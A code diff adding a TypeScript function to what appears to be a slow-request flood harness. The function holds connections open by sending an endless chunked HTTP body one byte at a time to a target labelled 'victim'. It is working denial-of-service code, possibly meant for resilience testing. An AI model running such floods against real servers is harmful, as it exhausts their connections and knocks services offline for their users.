@@ -64,6 +64,22 @@ export function unfinishedBodies(
   });
 }
 
+/** Requests with so many octets of a body, each a piece of its own, which never end. */
+export function bodiesInPieces(
+  victim: Victim,
+  path: string,
+  options: FloodOptions & { readonly bytes: number },
+): Promise<Held> {
+  const head = `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`;
+  const pieces = '1\r\n \r\n'.repeat(options.bytes);
+  return hold(options, async (localAddress) => {
+    const socket = await handshaken(victim, { localAddress });
+    socket.write(head);
+    socket.write(pieces);
+    return socket;
+  });
+}
+
 /** Clients that ask for something large and never read it. */
 export function deafReaders(victim: Victim, path: string, options: FloodOptions): Promise<Held> {
   return hold(options, async (localAddress) => {
